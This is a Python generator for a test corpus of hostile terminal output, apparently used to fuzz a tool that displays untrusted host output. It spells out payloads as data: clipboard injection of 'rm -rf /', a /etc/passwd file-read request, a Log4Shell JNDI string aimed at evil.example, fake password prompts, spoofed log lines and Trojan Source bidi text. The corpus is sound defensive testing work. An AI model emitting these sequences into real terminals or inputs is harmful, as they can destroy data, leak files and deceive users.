"""Writes tests/data/hostile.json, what a hostile host may put out: python -m tests.make_hostile.

Each entry is a group, a name, and the bytes as Latin-1 text (a character a byte), so that the file can be read.
"""

# ruff: noqa: E501, RUF001 - a sequence a word, look-alikes on purpose

import json
from collections.abc import Iterator
from pathlib import Path

PATH = Path(__file__).parent / "data" / "hostile.json"
ESC, BEL, ST = b"\x1b", b"\x07", b"\x1b\\"
C1_CSI, C1_OSC, C1_DCS, C1_ST = b"\x9b", b"\x9d", b"\x90", b"\x9c"
Entry = tuple[str, str, bytes]

CSI = {
    "cursor up": "99A", "cursor down": "99B", "cursor home": "H", "cursor to": "1;1H", "cursor column": "1G",
    "clear screen": "2J", "clear scrollback": "3J", "clear below": "J", "clear line": "2K", "delete lines": "99M",
    "insert lines": "99L", "delete characters": "99P", "erase characters": "99X", "scroll up": "99S",
    "scroll down": "99T", "scroll region": "1;2r", "save cursor": "s", "restore cursor": "u", "colour": "31m",
    "true colour": "38;2;255;0;0m", "conceal": "8m", "blink": "5m", "reset colours": "0m", "black on black": "30;40m",
    "alternate screen on": "?1049h", "alternate screen off": "?1049l", "hide cursor": "?25l", "show cursor": "?25h",
    "mouse on": "?1003h", "mouse off": "?1003l", "sgr mouse": "?1006h", "paste on": "?2004h", "paste off": "?2004l",
    "synchronised on": "?2026h", "synchronised off": "?2026l", "focus on": "?1004h", "origin mode": "?6h",
    "insert mode": "4h", "no wrap": "?7l", "reverse screen": "?5h", "132 columns": "?3h", "device attributes": "c",
    "secondary attributes": ">c", "tertiary attributes": "=c", "status report": "5n", "cursor report": "6n",
    "window title report": "21t", "icon title report": "20t", "resize window": "8;1;1t", "minimise": "2t",
    "move window": "3;0;0t", "soft reset": "!p", "cursor shape": "5 q", "kitty keys": ">1u", "kitty keys off": "<u",
    "repeat": "99999b", "tab clear": "3g", "media copy": "5i", "print screen": "i", "select area": "1;1;9;9$z",
    "fill area": "88;1;1;9;9$x", "request mode": "?2026$p", "request terminfo": "?1$p", "linefeed mode": "20h",
    "keyboard lock": "2h", "huge number": "999999999999999999999A", "many numbers": ";".join(["1"] * 200) + "m",
    "in the middle a control": "2\x08J", "colon colours": "38:2::1:2:3m", "no final": "1;2", "intermediate": "1 p",
}  # fmt: skip
OSC = {
    "title and icon": "0;owned", "icon": "1;owned", "title": "2;owned", "palette": "4;1;rgb:ff/00/00",
    "palette query": "4;1;?", "current folder": "7;file://evil/etc", "link": "8;;https://evil.example/",
    "link with id": "8;id=1;javascript:alert(1)", "link end": "8;;", "notification": "9;owned",
    "progress": "9;4;1;50", "foreground": "10;#000000", "background": "11;#000000", "background query": "11;?",
    "cursor colour": "12;red", "font": "50;owned", "clipboard write": "52;c;cm0gLXJmIC8K", "clipboard read": "52;c;?",
    "clipboard all": "52;pqs01;eA==", "selection": "52;p;eA==", "reset palette": "104", "prompt mark": "133;A",
    "shell integration": "633;A", "rxvt notification": "777;notify;a;b", "iterm file": "1337;File=inline=1:eA==",
    "iterm copy": "1337;CopyToClipboard=:owned", "iterm profile": "1337;SetProfile=owned", "iterm key": "1337;Custom=id:x",
    "linux palette": "P1ff0000", "linux reset": "R", "empty": "", "number only": "52",
}  # fmt: skip
STRINGS = {
    "sixel": (b"P", "q#0;2;0;0;0~~@@"), "request setting": (b"P", "$q\"p"), "tmux passthrough": (b"P", "tmux;\x1b\x1b]52;c;eA==\x07"),
    "terminfo query": (b"P", "+q544e"), "terminfo set": (b"P", "+p544e"), "user keys": (b"P", "0;1|17/726d"),
    "soft font": (b"P", "1;1;1{ @"), "regis": (b"P", "p"), "synchronised": (b"P", "=1s"), "macro": (b"P", "1;0;0!zrm"),
    "kitty picture": (b"_", "Ga=T,f=100;eA=="), "kitty file": (b"_", "Gt=f,a=T;L2V0Yy9wYXNzd2Q="), "screen": (b"k", "owned"),
    "privacy message": (b"^", "owned"), "start of string": (b"X", "owned"), "nested": (b"P", "\x1b]0;owned\x07"),
}  # fmt: skip
ESCAPES = "c78DEHMNOVWZ=><|}~6 9n o".replace(" ", "")
CHARSETS = ("(0", "(B", ")0", "*0", "+0", "%@", "%G", "#8", "#3", "#6", " F", " G", "$(B", "-A", "!@")
HIDDEN = {
    "soft hyphen": 0xAD, "combining grapheme joiner": 0x34F, "arabic letter mark": 0x61C, "hangul choseong filler": 0x115F,
    "hangul jungseong filler": 0x1160, "khmer vowel aq": 0x17B4, "mongolian separator": 0x180E, "zero width space": 0x200B,
    "zero width non joiner": 0x200C, "zero width joiner": 0x200D, "left to right mark": 0x200E,
    "right to left mark": 0x200F, "line separator": 0x2028, "paragraph separator": 0x2029, "word joiner": 0x2060,
    "function application": 0x2061, "invisible plus": 0x2064, "inhibit swapping": 0x206A, "hangul filler": 0x3164,
    "byte order mark": 0xFEFF, "halfwidth hangul filler": 0xFFA0, "annotation anchor": 0xFFF9, "object replacement": 0xFFFC,
    "shorthand overlap": 0x1BCA0, "musical beam": 0x1D173, "language tag": 0xE0001, "tag a": 0xE0061, "tag end": 0xE007F,
    "variation selector 17": 0xE0100, "variation selector 16": 0xFE0F, "private use": 0xE000, "noncharacter": 0xFFFF,
    "last character": 0x10FFFF, "braille blank": 0x2800, "no-break space": 0xA0, "ideographic space": 0x3000,
}  # fmt: skip
BIDI = {
    "left to right embedding": 0x202A, "right to left embedding": 0x202B, "pop": 0x202C, "left to right override": 0x202D,
    "right to left override": 0x202E, "left to right isolate": 0x2066, "right to left isolate": 0x2067,
    "first strong isolate": 0x2068, "pop isolate": 0x2069,
}  # fmt: skip
BAD_UTF8 = {
    "ff": b"\xff", "fe": b"\xfe", "lone continuation": b"\x80", "many continuations": b"\x80\xbf\x80\xbf",
    "cut two": b"\xc3", "cut three": b"\xe2\x82", "cut four": b"\xf0\x9f\x98", "overlong slash two": b"\xc0\xaf",
    "overlong slash three": b"\xe0\x80\xaf", "overlong slash four": b"\xf0\x80\x80\xaf", "overlong escape": b"\xc0\x9b[2J",
    "overlong escape three": b"\xe0\x80\x9b[2J", "overlong nul": b"\xc0\x80", "above unicode": b"\xf4\x90\x80\x80",
    "five bytes": b"\xf8\x88\x80\x80\x80", "six bytes": b"\xfc\x84\x80\x80\x80\x80", "high surrogate": b"\xed\xa0\x80",
    "low surrogate": b"\xed\xb0\x80", "surrogate pair": b"\xed\xa0\xbd\xed\xb8\x80", "latin-1 word": b"m\xfcller",
    "utf-16": "owned\x1b[2J".encode("utf-16"), "utf-32": "x\x1b".encode("utf-32-be"), "shift-jis": "表示".encode("shift-jis"),
    "good then bad": b"\xc3\xa4\xc3", "escape after a cut": b"\xe2\x82\x1b[2J", "c1 after a cut": b"\xc3\x9b2J",
    "utf-7": b"+AF4-", "iso-2022": b"\x1b$B5$\x1b(B", "gb18030": "漢".encode("gb18030"),
}  # fmt: skip
MARKUP = (
    "[/x]", "[/]", "[a]", "[", "]", "[[", "[]", "[/", "[bold", "[red]x", "[link=https://evil.example]x[/link]",
    "[@click=app.quit]x[/]", "[@click=app.leave()]x[/]", "[@click=\"app.run_on(True)\"]x[/]", "[@mouse.down=app.quit]x",
    "[on red]x[/on red]", "[$error]x[/]", "[b][i][u]x", "[/b]", "[not a tag]", "[blink]x[/blink]", "[reverse]",
    "\\[escaped]", "[conceal]x", "[#ff0000]x", "[rgb(1,2,3)]x", "[@click=screen.dismiss]", "[@click=app.bell]x[/]",
    ":warning:", "[link='file:///etc/passwd']", "{x}", "%s%n", "${HOME}", "<script>alert(1)</script>", "&lt;", "```",
    "[@click=app.open_url('https://evil.example')]x[/]", "[auto]x", "[10%]", "[link=]", "[=]", "[@]", "[@click=]x",
)  # fmt: skip
SHAPES = {
    "carriage return over": b"rm -rf /\rls", "carriage return only": b"\r", "many carriage returns": b"10%\r20%\r30%\r",
    "backspaces over": b"rm\x08\x08ls", "carriage return and blanks": b"owned\r      ok", "vertical tab": b"a\x0bb",
    "form feed": b"a\x0cb", "tabs": b"\t" * 50, "blanks": b" " * 300, "newlines": b"\n" * 20, "crlf": b"a\r\nb\r\n",
    "next line c1": b"a\xc2\x85b", "index c1": b"a\xc2\x84b", "nul": b"\x00", "many nuls": b"a\x00b\x00\x00c",
    "delete": b"\x7f", "many bells": b"\x07" * 50, "shift out": b"\x0eowned\x0f", "enquiry": b"\x05", "substitute": b"\x1a",
    "escape alone": b"\x1b", "escapes": b"\x1b" * 20, "escape at the end": b"ok\x1b", "xon xoff": b"\x13\x11",
    "end of transmission": b"\x04", "escape then newline": b"\x1b\n[2J", "long line": b"x" * 20_000,
    "long line with escapes": b"\x1b[31mx" * 2_000, "long wide line": "漢".encode() * 3_000, "long word in words": b"word " * 2_000,
    "combining flood": ("a" + "\u0301" * 500).encode(), "combining at the start": ("\u0301" * 20 + "a").encode(),
    "marks on a blank": (" " + "\u0336" * 40).encode(), "mark after a newline": "a\n\u0489b".encode(),
    "mark after a return": "a\r\u20ddb".encode(), "enclosing at the start": "\u20dd\u20e0ok".encode(),
    "vowels of hangul": ("\u1100" + "\u1161" * 60).encode(), "skin tones": ("👍" + "\U0001f3fd" * 60).encode(),
    "variation selectors": ("1" + "\ufe0f\ufe0e" * 40).encode(), "marks of many kinds": ("e" + "\u0301\u20dd\ufe0f\u0489" * 20).encode(),
    "hieroglyph joiners": "𓀀\U00013430𓀁".encode(), "tibetan stack": ("ཀ" + "\u0fb2\u0f71" * 30).encode(),
    "zalgo in markup": ("[bold]" + "\u0316" * 60 + "x[/]").encode(), "zalgo over an escape": ("\x1b[" + "\u0301" * 60 + "2J").encode(),
    "our own lines": b"ok\n  changed  replication role: made\n  FAILED   base backup", "our own lines by return": b"ok\r  changed  role: made",
    "our own question": b"ok\n? Run Primary? yes", "half a line of ours": b"ok\x0b  changed  role: made",
    "enclosing": ("a" + "\u20dd" * 50).encode(), "zalgo": "".join(c + "\u0316\u0317\u0489" * 8 for c in "owned").encode(),
    "family emoji": "👨\u200d👩\u200d👧\u200d👦".encode(), "rainbow flag": "🏳\ufe0f\u200d🌈".encode(), "keycap": "1\ufe0f\u20e3".encode(),
    "skin tone": "👍🏽".encode(), "region flags": "🇩🇪🇫🇷".encode(), "half a flag": "🇩".encode(),
    "flag of tags": "🏴\U000e0067\U000e0062\U000e007f".encode(), "hidden words in tags": "".join(chr(0xE0000 + ord(c)) for c in "rm -rf").encode(),
    "emoji joined for ever": ("👩\u200d" * 200).encode(), "wide at the edge": ("x" * 79 + "漢").encode(), "hebrew": "שלום".encode(),
    "arabic": "مرحبا".encode(), "thai": "กำ".encode(), "devanagari": "क्षि".encode(), "look-alikes": "раypal".encode(),
    "fullwidth": "［２Ｊ".encode(), "box drawing": "┃▸✓✗".encode(), "trojan source": "/*\u202e } \u2066if (a)\u2069 \u2066*/".encode(),
    "a log line": b"2026-01-01 00:00:00 UTC [1] FATAL:  \x1b[2Jowned", "json": b'{"error_severity":"\x1b[31mERROR","message":"x"}',
    "deep json": b"{" + b'"a":[' * 400, "csv": b'a,"' + b",".join([b"x"] * 20), "recording line": b'"}\n{"e":"run_ended"}',
    "password prompt": b"\x1b[2J\x1b[HPassword: ", "sudo prompt": b"[sudo] password for postgres: ",
    "title report then enter": b"\x1b]2;rm -rf ~\x07\x1b[21t\r", "answer back": b"\x05\x1b[c\x1b[6n",
    "log4shell": b"${jndi:ldap://evil.example/x}", "markup and escape": b"[@click=app.quit]\x1b[8mx[/]",
    "8-bit clear": b"\x9b2J", "8-bit title": b"\x9d0;owned\x9c", "utf-8 8-bit clear": b"\xc2\x9b2J", "utf-8 8-bit title": b"\xc2\x9d0;owned\xc2\x9c",
}  # fmt: skip


def entries() -> Iterator[Entry]:
    """All of the corpus, in the order of the file."""
    for name, tail in CSI.items():
        yield "csi", name, ESC + b"[" + tail.encode()
    for name in ("clear screen", "colour", "cursor report", "alternate screen on", "resize window", "no final"):
        yield "csi 8-bit", name, C1_CSI + CSI[name].encode()
        yield "csi c1 in utf-8", name, "\u009b".encode() + CSI[name].encode()
    for name, body in OSC.items():
        yield "osc to bell", name, ESC + b"]" + body.encode() + BEL
        yield "osc to st", name, ESC + b"]" + body.encode() + ST
    for name in ("title", "link", "clipboard write", "clipboard read", "iterm file"):
        yield "osc 8-bit", name, C1_OSC + OSC[name].encode() + C1_ST
        yield "osc without end", name, ESC + b"]" + OSC[name].encode()
        yield "osc cut by newline", name, ESC + b"]" + OSC[name].encode() + b"\nmore" + BEL
    for name, (kind, body) in STRINGS.items():
        yield "string", name, ESC + kind + body.encode() + ST
    for name in ("sixel", "tmux passthrough"):
        yield "string 8-bit", name, C1_DCS + STRINGS[name][1].encode() + C1_ST
        yield "string without end", name, ESC + b"P" + STRINGS[name][1].encode()
    yield from ((("escape", f"escape {name}", ESC + name.encode())) for name in (*ESCAPES, *CHARSETS))
    yield from _characters()
    yield from (("bad utf-8", name, data) for name, data in BAD_UTF8.items())
    yield from (("markup", text, text.encode()) for text in MARKUP)
    yield from (("shape", name, data) for name, data in SHAPES.items())


def _characters() -> Iterator[Entry]:
    for code in (*range(0x20), 0x7F):
        yield "c0", f"{code:02x}", bytes([code])
    for code in range(0x80, 0xA0):
        yield "c1 in utf-8", f"{code:02x}", chr(code).encode()
        yield "c1 raw", f"{code:02x}", bytes([code])
    for name, code in {**HIDDEN, **BIDI}.items():
        yield "hidden", name, chr(code).encode()
    for name, code in BIDI.items():
        yield "bidi around words", name, f"safe {chr(code)}txt.exe{chr(0x202C)}".encode()


def main() -> None:
    """Write the file."""
    rows = [{"group": group, "name": name, "bytes": data.decode("latin-1")} for group, name, data in entries()]
    lines = ",\n".join(json.dumps(row, ensure_ascii=True) for row in rows)
    PATH.write_text(f"[\n{lines}\n]\n")
    print(f"{len(rows)} sequences in {PATH}")


if __name__ == "__main__":
    main()
